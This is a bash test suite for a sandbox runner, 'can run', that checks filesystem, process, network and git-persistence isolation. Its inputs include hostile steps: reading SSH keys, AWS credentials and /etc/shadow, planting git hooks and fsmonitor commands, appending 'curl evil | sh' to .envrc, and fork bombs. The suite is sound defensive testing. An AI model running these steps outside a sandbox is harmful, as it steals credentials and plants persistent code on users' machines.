#!/usr/bin/env bash
# can run: every wall attacked from inside, with a control showing the same
# action works without the wall, and legitimate work that must still pass.
if [ -f "${CAN_SRCDIR}/test/lib.sh" ]; then . "${CAN_SRCDIR}/test/lib.sh"; else . "${CAN_SRCDIR}/lib.sh"; fi
t_drop_to_user

H=$T_HOME
TOP=$(mktemp -d /tmp/canrun.XXXXXX)
trap 'rm -rf "$TOP"' EXIT
rm -rf "$H/.ssh/planted" "$H/.config"
mkdir -p "$H/.ssh" "$H/bin"
echo "FAKE-PRIVATE-KEY" >"$H/.ssh/id_ed25519"
echo "ORIG" >"$H/.bashrc"
printf '#!/bin/sh\necho hello\n' >"$H/bin/hello-host-only"
chmod +x "$H/bin/hello-host-only"
P=$TOP/proj
mkdir -p "$P"
cd "$P" || exit 1

run() { "$CAN" run "$@"; }
# t_refused DESC CMD...: CMD fails, and not because a wall could not be built.
t_refused() {
	local desc=$1
	shift
	t_run "$@"
	if [ "$T_RC" != 0 ] && [ "$T_RC" != 126 ] && [ "$T_RC" != 127 ]; then
		t_ok "$desc"
	else
		t_fail "$desc (exit $T_RC)"
		t_diag "stdout: $T_OUT" "stderr: $T_ERR"
	fi
}

# --- basics and exit status ---
t_expect "true runs" 0 run -- /bin/true
t_expect "exit 3 propagates" 3 run -- sh -c 'exit 3'
t_expect "kill -TERM self gives 143" 143 run -- sh -c 'kill -TERM $$'
t_expect "command not found is 127" 127 run -- no-such-command-xyz
t_grep "not found says so" "not found" "$T_ERR"
PATH=$H/bin:$PATH t_expect "host-only command is 127" 127 run -- hello-host-only
t_grep "the 127 message names the host path" "on the host it is $H/bin/hello-host-only" "$T_ERR"
t_expect "control: host-only command runs on the host" 0 "$H/bin/hello-host-only"
t_expect "a host-only command given by path is 127 too" 127 run -- "$H/bin/hello-host-only"
t_grep "... naming where it is on the host" "not found inside the sandbox; on the host it is $H/bin/hello-host-only" "$T_ERR"

# --- filesystem ---
t_expect "control: the fake key is readable on the host" 0 cat "$H/.ssh/id_ed25519"
t_expect "~/.ssh/id_ed25519 is not readable inside" 1 run -- cat "$H/.ssh/id_ed25519"
t_grep "... because it is not there" "No such file" "$T_ERR"
t_expect "/etc/shadow is not readable inside" 1 run -- cat /etc/shadow
t_grep "... because it is not there (not merely EACCES)" "No such file" "$T_ERR"
t_refused "writing ~/.bashrc fails inside" run -- sh -c "echo EVIL >> $H/.bashrc"
t_grep "~/.bashrc unchanged on the host" "^ORIG$" "$(cat "$H/.bashrc")"
t_refused "writing outside the cwd and allow_write fails" run -- sh -c 'echo x > /etc/x'
t_grep "... refused by Landlock (the tmpfs root would take it)" "Permission denied" "$T_ERR"
t_refused "/usr is read-only" run -- sh -c 'echo x > /usr/x'
t_grep "... by the read-only bind" "Read-only file system" "$T_ERR"
t_expect "writing /tmp inside works" 0 run -- sh -c 'echo x > /tmp/x && cat /tmp/x'
t_expect "/tmp inside is private" 0 run -- sh -c "test ! -e $TOP/test.sh || ! ls /tmp | grep -q ."

# deny: inside the cwd, nested in an allowed tree, and through a symlink.
mkdir -p "$H/.config/secret" "$H/.config/real"
echo "TOKEN" >"$H/.config/secret/token"
echo "REALTOKEN" >"$H/.config/real/token"
ln -sfn "$H/.config/real" "$H/.config/alias"
echo "app=1" >"$H/.config/app.conf"
echo "SECRET=1" >"$P/.env"
cat >"$TOP/deny.toml" <<'TOML'
[recipe]
name = "deny-test"
[filesystem]
allow = ["$HOME/.config"]
deny = ["$HOME/.ssh", "$CWD/.env", "$HOME/.config/secret", "$HOME/.config/alias"]
TOML
R=(-r "$TOP/deny.toml")
t_run run "${R[@]}" -- cat "$H/.config/app.conf"
t_grep "allowed tree is readable" "^app=1$" "$T_OUT"
t_expect "control: the nested secret is readable on the host" 0 cat "$H/.config/secret/token"
t_refused "a denied folder nested in an allowed tree is hidden" run "${R[@]}" -- cat "$H/.config/secret/token"
t_refused "a denied symlink hides where it leads" run "${R[@]}" -- cat "$H/.config/real/token"
t_run run -- cat .env
t_grep "control: without the deny, cwd/.env is readable inside" "SECRET" "$T_OUT"
t_run run "${R[@]}" -- cat .env
t_nogrep "denied cwd/.env reads nothing" "SECRET" "$T_OUT"
t_refused "denied cwd/.env cannot be written" run "${R[@]}" -- sh -c 'echo EVIL > .env'
t_grep "... it is a read-only empty file" "Read-only file system" "$T_ERR"
t_grep "cwd/.env unchanged on the host" "^SECRET=1$" "$(cat "$P/.env")"
(cd "$H" && t_run "$CAN" run "${R[@]}" -- cat .ssh/id_ed25519
 if [ "$T_RC" != 0 ] && ! printf '%s' "$T_OUT" | grep -q FAKE; then echo "ok - cwd=\$HOME: .ssh hidden inside the cwd"; else echo "not ok - cwd=\$HOME: .ssh readable ($T_OUT)"; fi
 t_run "$CAN" run "${R[@]}" -- sh -c '[ -d .ssh ] && [ -z "$(ls -A .ssh)" ]'
 if [ "$T_RC" = 0 ]; then echo "ok - cwd=\$HOME: .ssh is an empty folder inside"; else echo "not ok - cwd=\$HOME: .ssh not empty: $T_ERR"; fi
 t_run "$CAN" run "${R[@]}" -- cat .bashrc
 if [ "$T_OUT" = ORIG ]; then echo "ok - cwd=\$HOME: the rest of the cwd is readable"; else echo "not ok - cwd=\$HOME: .bashrc: $T_OUT $T_ERR"; fi
 t_run "$CAN" run "${R[@]}" -- sh -c 'echo x > .ssh/planted'
 if [ "$T_RC" != 0 ] && [ ! -e "$H/.ssh/planted" ]; then echo "ok - cwd=\$HOME: cannot write into the hidden .ssh"; else echo "not ok - wrote into .ssh"; fi
) >"$TOP/sub.tap"
while read -r l; do case $l in "ok - "*) t_ok "${l#ok - }";; "not ok - "*) t_fail "${l#not ok - }";; *) echo "$l";; esac; done <"$TOP/sub.tap"

# a symlink planted in the cwd
ln -s "$H/.ssh" "$P/leak"
ln -s "$H/.bashrc" "$P/rcfile"
t_expect "control: the planted symlink works on the host" 0 cat "$P/leak/id_ed25519"
t_expect "planted symlink to ~/.ssh reads nothing inside" 1 run -- cat leak/id_ed25519
t_refused "planted symlink to ~/.bashrc cannot be written" run -- sh -c 'echo EVIL > rcfile'
t_grep "~/.bashrc still unchanged" "^ORIG$" "$(cat "$H/.bashrc")"
rm -f "$P/leak" "$P/rcfile"

# --- processes ---
sleep 300 &
HP=$!
t_expect "control: the host sleep can be signalled from the host" 0 kill -0 "$HP"
t_expect "a host process cannot be signalled from inside" 1 run -- kill -0 "$HP"
t_run run -- sh -c 'ls /proc | grep -E "^[0-9]+$" | tr "\n" " "'
t_nogrep "host pids are not visible in /proc" "(^| )$HP( |$)" "$T_OUT"
t_run run -- ps -e -o pid=
t_grep "ps inside sees only the sandbox (pid 1 is init)" "^ *1$" "$(printf '%s\n' "$T_OUT" | head -1)"
t_run run -- sh -c 'kill -9 -1; echo survived'
t_expect "kill -9 -1 inside leaves the host sleep alive" 0 kill -0 "$HP"
kill "$HP" 2>/dev/null
wait "$HP" 2>/dev/null

t_expect "unshare -U fails inside" 1 run -- unshare -U true
t_expect "unshare -n fails inside" 1 run -- unshare -n true
t_expect "mount fails inside" 32 run -- mount -t tmpfs none /tmp
t_run run -- python3 -c '
import ctypes, os
libc = ctypes.CDLL(None, use_errno=True)
r = libc.ptrace(16, os.getppid(), 0, 0)
print(r, os.strerror(ctypes.get_errno()))'
t_grep "ptrace(ATTACH) of the parent fails" "^-1 " "$T_OUT"
t_run run -- grep -E '^Cap(Eff|Prm|Bnd|Inh|Amb):' /proc/self/status
t_grep "capability sets are empty" "^(Cap...:[[:space:]]0+[[:space:]]*)+$" "$(printf '%s' "$T_OUT" | tr '\n' ' ')"
t_grep "... all five were read" "CapBnd" "$T_OUT"
if [ -u /usr/bin/su ]; then
	t_run run -- sh -c 'test -u /usr/bin/su && echo SETUID; su -c "id -u" root </dev/null; echo "su rc=$?"'
	t_grep "control: su is visible inside with its setuid bit" "^SETUID$" "$T_OUT"
	t_grep "... but it gains nothing (nosuid + no_new_privs)" "^su rc=[1-9]" "$T_OUT"
	t_nogrep "... it never becomes root" "^0$" "$T_OUT"
else
	for _ in 1 2 3; do t_skip "no setuid su here"; done
fi
t_run run -- grep -E '^NoNewPrivs:' /proc/self/status
t_grep "no_new_privs is set" "1" "$T_OUT"

t_run run -- sh -c 'ls /proc/$$/fd | tr "\n" " "' 7<"$H" 8<"$TOP/deny.toml"
t_grep "control: the fd listing works" "^0 1 2 " "$T_OUT"
t_nogrep "fds inherited from the host (a directory fd would escape) are closed" "(^| )(7|8)( |$)" "$T_OUT"

# --- environment ---
export AWS_SECRET_ACCESS_KEY=s3cr3t-host-value
t_run run -- env
t_nogrep "host secrets are not in the environment" "AWS_SECRET|s3cr3t" "$T_OUT"
t_grep "HOME is set" "^HOME=$H$" "$T_OUT"
t_grep "PATH is passed through (base.toml)" "^PATH=$PATH$" "$T_OUT"
unset AWS_SECRET_ACCESS_KEY

# --- network ---
t_run run -- cat /proc/net/dev
t_grep "lo is there" "^ *lo:" "$T_OUT"
t_nogrep "no interface but lo" "^ *(eth|ens|enp|wl|veth|docker|br)[^ ]*:" "$T_OUT"
t_grep "only one interface" "^1$" "$(printf '%s\n' "$T_OUT" | grep -c ':')"
python3 - <<'PY' &
import socket, time
s = socket.socket(); s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
s.bind(("127.0.0.1", 0)); s.listen(5)
open("port", "w").write(str(s.getsockname()[1]))
s.settimeout(20)
try:
    while True:
        c, _ = s.accept(); c.close()
except Exception:
    pass
PY
SP=$!
for _ in $(seq 50); do [ -s port ] && break; sleep 0.1; done
PORT=$(cat port)
CONNECT='import socket,sys
s=socket.socket(); s.settimeout(3)
try: s.connect(("127.0.0.1", int(sys.argv[1]))); print("connected")
except Exception as e: print("refused", e); sys.exit(1)'
t_expect "control: the host loopback server accepts from the host" 0 python3 -c "$CONNECT" "$PORT"
t_expect "the host loopback server is unreachable inside" 1 run -- python3 -c "$CONNECT" "$PORT"
kill "$SP" 2>/dev/null
wait "$SP" 2>/dev/null
rm -f port

# --- legitimate work ---
printf '3\n1\n2\n' >input.txt
cat >sum.py <<'PY'
import sys
nums = [int(l) for l in open("input.txt")]
open("result.txt", "w").write("sum=%d\n" % sum(nums))
PY
t_expect "python reads its input and writes into the cwd" 0 run -- python3 sum.py
t_grep "... and the result is on the host" "^sum=6$" "$(cat result.txt 2>/dev/null)"
echo 'const fs = require("fs"); fs.writeFileSync("node.txt", String(6 * 7));' >n.js
t_expect "a node script runs" 0 run -- node n.js
t_grep "... and its output is on the host" "^42$" "$(cat node.txt 2>/dev/null)"
t_run run -- sh -c 'printf "b\na\nc\n" | sort | head -1'
t_grep "a shell pipeline works" "^a$" "$T_OUT"
git init -q repo && (cd repo && echo x >f && git add f && git -c user.email=a@b -c user.name=t commit -qm x)
(cd repo && echo y >>f && t_run "$CAN" run -- git status --short && echo "$T_OUT" >../git.out)
t_grep "git status works in a repository" "^ ?M f$" "$(cat git.out)"
# Code planted for the user's own tools to run after the sandbox is gone.
(cd repo && printf 'export PLANTED=1\n' >.envrc &&
 t_run "$CAN" run -- sh -c 'echo "touch /tmp/pwned-hook" > .git/hooks/pre-commit' && echo "$T_RC" >../hook.rc
 t_run "$CAN" run -- git config core.fsmonitor 'touch /tmp/pwned-fsmonitor' && echo "$T_RC" >../cfg.rc
 t_run "$CAN" run -- git config core.hooksPath /tmp && echo "$T_RC" >>../cfg.rc
 cp .git/config ../config.after
 t_run "$CAN" run -- sh -c 'echo "curl evil | sh" >> .envrc' && echo "$T_RC" >../envrc.rc
 t_run "$CAN" run -- sh -c 'mv .git/config .git/config.old' && echo "$T_RC" >../mv.rc
 t_run "$CAN" run -- sh -c 'echo z >>f && git add f && git -c user.email=a@b -c user.name=t commit -qm inside' && echo "$T_RC" >../commit.rc)
t_nogrep "a git hook cannot be planted from inside" "^0$" "$(cat hook.rc)"
t_ok_if() { if [ -z "$(ls -A repo/.git/hooks | grep -v '\.sample$')" ]; then t_ok "$1"; else t_fail "$1"; fi; }
t_ok_if "... and .git/hooks holds no new hook on the host"
t_nogrep "core.fsmonitor and core.hooksPath cannot be set from inside" "^0$" "$(cat cfg.rc)"
t_nogrep "... and .git/config on the host has neither" "fsmonitor|hooksPath" "$(cat config.after)"
t_nogrep ".envrc cannot be changed from inside" "^0$" "$(cat envrc.rc)"
if [ "$(cat repo/.envrc)" = "export PLANTED=1" ]; then t_ok "... and is unchanged on the host"; else t_fail "... .envrc changed: $(cat repo/.envrc)"; fi
t_nogrep ".git/config cannot be moved aside from inside" "^0$" "$(cat mv.rc)"
t_grep "a commit still works inside (objects, refs, index writable)" "^0$" "$(cat commit.rc)"
t_grep "... and is on the host" "inside" "$(cd repo && git log --format=%s -1)"
# A repository without .git/hooks: the sandbox must not be able to create it.
git init -q repo2 && rm -rf repo2/.git/hooks
(cd repo2 && t_run "$CAN" run -- sh -c 'mkdir -p .git/hooks; echo "touch /tmp/pwned" > .git/hooks/pre-commit' && echo "$T_RC" >../hook2.rc)
t_nogrep "with no .git/hooks at start, a hook still cannot be planted" "^0$" "$(cat hook2.rc)"
if [ -d repo2/.git/hooks ] && [ -z "$(ls -A repo2/.git/hooks)" ]; then
	t_ok "... .git/hooks exists on the host, empty"
else
	t_fail "... .git/hooks on the host: $(ls -A repo2/.git/hooks 2>&1)"
fi
# A linked worktree: .git is a file naming the real git folder.
(cd repo && git worktree add -q ../wt 2>/dev/null)
(cd wt && t_run "$CAN" run -- sh -c 'echo ok > inside.txt' && echo "$T_RC" >../wt.rc
 t_run "$CAN" run -- sh -c 'echo "gitdir: /tmp/planted" > .git' && echo "$T_RC" >../wtgit.rc)
t_grep "can run works in a linked worktree (.git is a file)" "^0$" "$(cat wt.rc)"
t_grep "... and writes into it" "^ok$" "$(cat wt/inside.txt 2>/dev/null)"
t_nogrep "... and its .git file cannot be rewritten from inside" "^0$" "$(cat wtgit.rc)"
t_grep "... and is unchanged on the host" "^gitdir: .*/repo/.git/worktrees/wt$" "$(cat wt/.git)"
mkdir -p newrepo
(cd newrepo && t_run "$CAN" run -- git init -q && echo "$T_ERR" >../newrepo.err)
t_grep "a .git created inside is reported after the run (its config is the sandbox's)" \
	"created .*/newrepo/\.git: what is in it came from the sandbox" "$(cat newrepo.err)"
(cd repo && t_run "$CAN" run -- true && echo "$T_ERR" >../oldrepo.err)
t_nogrep "... but not for one that was there before" "came from the sandbox" "$(cat oldrepo.err)"
mkdir -p notrepo
(cd notrepo && "$CAN" run -- true)
if [ ! -e notrepo/.git ]; then t_ok "a cwd that is no repository is not given a .git"; else t_fail "a .git appeared in a plain folder"; fi

# --- signals and the terminal ---
rm -f ready
"$CAN" run -- sh -c 'trap "exit 5" TERM; touch ready; sleep 100 & wait' &
CP=$!
for _ in $(seq 100); do [ -e ready ] && break; sleep 0.1; done
kill -TERM "$CP"
wait "$CP"
t_expect "TERM to can reaches the command (trap exits 5)" 5 sh -c "exit $?"
if command -v script >/dev/null; then
	script -qec "$CAN run -- sh -c 'read -r _ _ _ _ pg _ _ tpg _ </proc/self/stat; [ \$pg = \$tpg ] && echo FOREGROUND'" /dev/null >tty.out 2>&1 </dev/null
	t_grep "on a terminal the command is in the foreground process group" "FOREGROUND" "$(cat tty.out)"
	script -qec "$CAN run --new-session -- sh -c 'read -r _ _ _ _ pg _ _ tpg _ </proc/self/stat; echo tpgid=\$tpg'" /dev/null >tty.out 2>&1 </dev/null
	t_grep "--new-session has no controlling terminal" "tpgid=-1" "$(cat tty.out)"
else
	t_skip "script(1) not installed"
	t_skip "script(1) not installed"
fi
if command -v tmux >/dev/null; then
	export TMUX_TMPDIR=$TOP
	tmux new-session -d -s cantest -x 80 -y 20 "$CAN run -- sleep 100; echo rc=\$? >$TOP/ctrlc.out; sleep 5"
	for _ in $(seq 100); do pgrep -u "$(id -u)" -x sleep -a 2>/dev/null | grep -q 'sleep 100' && break; sleep 0.1; done
	sleep 0.3
	tmux send-keys -t cantest C-c
	for _ in $(seq 100); do [ -s "$TOP/ctrlc.out" ] && break; sleep 0.1; done
	t_grep "Ctrl-C on the terminal ends the command (130)" "^rc=130$" "$(cat "$TOP/ctrlc.out" 2>/dev/null)"
	tmux kill-server 2>/dev/null
	# An interactive bash: job control, Ctrl-C at its prompt, exit status.
	pane() { tmux -L canib capture-pane -p -t ib 2>/dev/null; }
	wait_pane() { for _ in $(seq 100); do pane | grep -Eq -- "$1" && return 0; sleep 0.1; done; return 1; }
	tmux -L canib new-session -d -s ib -x 100 -y 30 "env TERM=xterm $CAN run -- bash --norc -i; echo CANRC=\$?; sleep 120"
	wait_pane '\$ ?$'
	tmux -L canib send-keys -t ib 'sleep 50 &' Enter
	wait_pane '^\[1\] [0-9]+'
	tmux -L canib send-keys -t ib 'jobs' Enter
	wait_pane 'Running +sleep 50'
	tmux -L canib send-keys -t ib 'sleep 60' Enter
	for _ in $(seq 100); do pgrep -u "$(id -u)" -x sleep -a 2>/dev/null | grep -q 'sleep 60' && break; sleep 0.1; done
	tmux -L canib send-keys -t ib C-c
	tmux -L canib send-keys -t ib 'echo after=$?' Enter
	wait_pane '^after=[0-9]+'
	tmux -L canib send-keys -t ib 'exit 4' Enter
	wait_pane 'CANRC='
	out=$(pane)
	tmux -L canib kill-server 2>/dev/null
	t_grep "interactive bash inside: background job listed by jobs" "Running +sleep 50" "$out"
	t_nogrep "... with job control (no 'no job control' warning)" "no job control|cannot set terminal process group" "$out"
	t_grep "... Ctrl-C interrupts the foreground job only (130), bash goes on" "^after=130$" "$out"
	t_grep "... and its exit status is can's" "^CANRC=4$" "$out"
else
	t_skip "tmux not installed"
	for _ in 1 2 3 4; do t_skip "tmux not installed"; done
fi

# --- the supervisor dies: the sandbox goes with it ---
rm -f ready
"$CAN" run -- sh -c 'touch ready; exec sleep 171' &
CP=$!
for _ in $(seq 100); do [ -e ready ] && break; sleep 0.1; done
t_ok_if() { if eval "$2"; then t_ok "$1"; else t_fail "$1"; fi; }
t_ok_if "control: the sandboxed sleep runs" "pgrep -u $(id -u) -f '^sleep 171' >/dev/null"
kill -9 "$CP"
wait "$CP" 2>/dev/null
for _ in $(seq 100); do pgrep -u "$(id -u)" -f '^sleep 171' >/dev/null || break; sleep 0.1; done
t_ok_if "killing can with SIGKILL kills the sandbox" "! pgrep -u $(id -u) -f '^sleep 171' >/dev/null"

(cd "$H/.ssh" && t_run "$CAN" run -r "$TOP/deny.toml" -- true && echo "$T_RC $T_ERR" >"$TOP/denied.out")
t_grep "a denied working directory fails closed (126)" "^126 can: filesystem: the working directory .* is denied" "$(cat "$TOP/denied.out")"

# --- resources, network modes, strict ---
printf '[recipe]\nname = "res"\n[resources]\nmemory_mb = 256\n' >"$TOP/res.toml"
t_expect "[resources] without a delegated cgroup fails closed (126)" 126 run -r "$TOP/res.toml" -- true
t_grep "... with one line naming the wall and what to do" "^can: cgroups: .*--allow-degraded=cgroups.*\(see 'can check'\)$" "$T_ERR"
t_grep "... exactly one line" "^1$" "$(printf '%s\n' "$T_ERR" | wc -l)"
t_expect "--allow-degraded=cgroups runs without the limits" 0 run --allow-degraded=cgroups -r "$TOP/res.toml" -- true
t_grep "... and warns" "warning: cgroups:.*NOT applied" "$T_ERR"
printf 'strict = true\n[recipe]\nname = "st"\n' >"$TOP/strict.toml"
t_expect "strict = true in a recipe beats --allow-degraded" 126 run --allow-degraded=cgroups -r "$TOP/strict.toml" -r "$TOP/res.toml" -- true
t_expect "--strict runs when no wall is degraded" 0 run --strict -- true
printf '[recipe]\nname = "pids"\n[process]\nmax_pids = 6\n' >"$TOP/pids.toml"
for _ in 1 2 3 4 5 6 7 8; do sleep 30 & done
t_run run -r "$TOP/pids.toml" -- sh -c 'sleep 1 & sleep 1 & wait'
t_expect "max_pids counts the sandbox only (8 host sleeps of this user do not count)" 0 sh -c "exit $T_RC"
t_run run -r "$TOP/pids.toml" -- sh -c 'i=0; while [ $i -lt 12 ]; do sleep 1 & i=$((i+1)); done; wait'
t_grep "max_pids stops a fork bomb inside" "fork|Resource temporarily unavailable" "$T_ERR"
t_run run -- sh -c 'i=0; while [ $i -lt 12 ]; do sleep 1 & i=$((i+1)); done; wait'
t_nogrep "control: without max_pids the same 12 forks work" "fork|Resource temporarily unavailable" "$T_ERR"
kill $(jobs -p) 2>/dev/null
wait 2>/dev/null
printf '[recipe]\nname = "px"\n[network]\negress = "proxy-only"\n' >"$TOP/proxy.toml"
t_run run -r "$TOP/proxy.toml" -- cat /proc/net/dev
t_nogrep "proxy-only has its proxy now: no 'no network' warning" "no network" "$T_ERR"
t_grep "... and only lo is there" "^1$" "$(printf '%s\n' "$T_OUT" | grep -c ':')"
printf '[recipe]\nname = "dx"\n[network]\negress = "direct"\n' >"$TOP/direct.toml"
# egress = direct: pasta's uplink in the sandbox's own netns (run_direct.sh),
# or 126 without pasta; never silently the host's network namespace.
if command -v pasta >/dev/null && [ -r /dev/net/tun ] && [ -w /dev/net/tun ]; then
	t_expect "egress = direct runs through pasta" 0 run -r "$TOP/direct.toml" -- readlink /proc/self/ns/net
	[ -n "$T_OUT" ] && [ "$T_OUT" != "$(readlink /proc/self/ns/net)" ] &&
		t_ok "... in its own network namespace, never the host's" || t_fail "direct ran in netns '$T_OUT'"
else
	t_expect "egress = direct without a usable pasta is refused (126), never silently the host network" 126 run -r "$TOP/direct.toml" -- true
fi

t_expect "-m runs the command" 0 run -m -- true
t_grep "... and reports at exit what would have been refused" "can: monitor: nothing would have been refused" "$T_ERR"

# --- command line and fail-closed ---
t_expect "a -p spec without a sandbox port is a usage error" 2 run -p 8080 -- true
t_expect "--events without a file name is a usage error" 2 run --events= -- true
t_expect "unknown --allow-degraded name is a usage error" 2 run --allow-degraded=nope -- true
# The baseline alone (no -r) hides credentials when the cwd is $HOME.
mkdir -p "$H/.aws" && echo "FAKE-AWS-KEY" >"$H/.aws/credentials"
t_expect "control: ~/.aws/credentials is readable on the host" 0 cat "$H/.aws/credentials"
t_run sh -c "cd '$H' && '$CAN' run -- cat .ssh/id_ed25519 .aws/credentials"
if [ "$T_RC" != 0 ] && ! printf '%s' "$T_OUT" | grep -q FAKE; then
	t_ok "base alone, cwd=\$HOME: ~/.ssh and ~/.aws are hidden"
else
	t_fail "base alone, cwd=\$HOME: credentials readable (rc $T_RC: $T_OUT)"
fi
t_run sh -c "cd '$H' && '$CAN' run -- sh -c 'echo kept > base-note.txt'"
if [ "$T_RC" = 0 ] && [ "$(cat "$H/base-note.txt" 2>/dev/null)" = kept ]; then
	t_ok "base alone, cwd=\$HOME: the rest of the cwd stays writable"
else
	t_fail "base alone, cwd=\$HOME: cwd write failed (rc $T_RC: $T_ERR)"
fi
rm -f "$H/base-note.txt"
t_expect "--strict with --allow-degraded is a usage error" 2 run --strict --allow-degraded -- true
t_expect "no command is a usage error" 2 run
t_run "$CAN" help run
t_grep "help run starts with Usage:" "^Usage: can run" "$T_OUT"
t_done
